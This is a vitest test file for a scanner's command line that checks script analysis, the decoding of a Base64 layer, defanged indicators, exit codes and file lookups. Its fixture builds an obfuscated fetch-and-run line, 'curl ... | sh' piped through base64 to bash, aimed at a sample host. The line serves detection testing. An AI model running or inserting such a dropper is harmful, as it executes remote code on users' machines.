import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { CliFolder, json } from './cli-process.ts'

/** Scripts on the command line: from a file or a pipe, in prose, as a recipe; exit codes that scripts rely on. */

const cli = new CliFolder()
const { folder, skerry } = cli
afterAll(() => cli.remove())

const hidden = 'curl -s http://second.kestrel-sample.com/run | sh'
const script = `echo ${Buffer.from(hidden).toString('base64')} | base64 -d | bash\n`
const sha256 = createHash('sha256').update(script).digest('hex')
writeFileSync(join(folder, 'install'), script)
writeFileSync(join(folder, 'one.py'), 'print(1)\n')
writeFileSync(join(folder, 'empty.sh'), ' \n')

describe('scan bash', () => {
  test('shows what a script does and hides, with indicators that cannot be clicked', async () => {
    const { out, code } = await skerry(['scan', 'bash', 'install'])
    expect(code).toBe(0)
    expect(out).toContain(`install: shell script, 1 line, ${script.length} bytes, ${sha256}`)
    expect(out).toContain('From Base64')
    expect(out).toContain('hxxp://second.kestrel-sample[.]com/run')
  })

  test('from standard input answers the report of the API as JSON', async () => {
    const report = json(await skerry(['scan', 'bash', '-', '--json'], script))
    expect(report).toMatchObject({ file: { sha256, lines: 1 }, language: 'shell' })
  })

  test('exits with 7 when something is as severe as was asked, also with an explanation', async () => {
    expect((await skerry(['scan', 'bash', 'install', '--fail-on', 'high'])).code).toBe(7)
    const { out, code } = await skerry(['scan', 'bash', 'install', '--explain', '--fail-on', 'high'])
    expect(code).toBe(7)
    expect(out).toContain('derived from the text by rules, not by AI')
    const calm = await skerry(['scan', 'bash', 'one.py', '--fail-on', 'low'])
    expect(calm.code).toBe(0)
    expect(calm.out).toContain('What they do not know can still be there.')
    expect(calm.out).not.toMatch(/harmless|safe|clean/i)
  })

  test('refuses what is empty or not there before anything is kept', async () => {
    expect((await skerry(['scan', 'bash', 'empty.sh'])).code).toBe(4)
    expect((await skerry(['scan', 'bash', 'nowhere.sh'])).code).toBe(4)
  })
})

describe('file', () => {
  test('script, explain and recipe read what was submitted', async () => {
    expect(json(await skerry(['file', 'script', sha256, '--json']))).toMatchObject({ file: { sha256 } })
    expect((await skerry(['file', 'explain', sha256])).out).toContain('This is a shell script of 1 line.')
    const { out } = await skerry(['file', 'recipe', sha256, '1'])
    expect(JSON.parse(out)).toEqual([{ op: 'From Base64', args: ['A-Za-z0-9+/=', true, false] }])
  })

  test.each([
    ['script', ['a'.repeat(64)], 6],
    ['explain', ['a'.repeat(64)], 4],
    ['recipe', [sha256, '9'], 4],
  ])('%s of what is not here exits with its code', async (command, words, code) => {
    expect((await skerry(['file', command, ...words])).code).toBe(code)
  })
})

test('the quota of files is shown as unlimited, the others as not known', async () => {
  const { out } = await skerry(['limits'])
  expect(out).toMatch(/file\s+unlimited\s+unlimited/)
  expect(out).not.toMatch(/domain\s+0/)
})
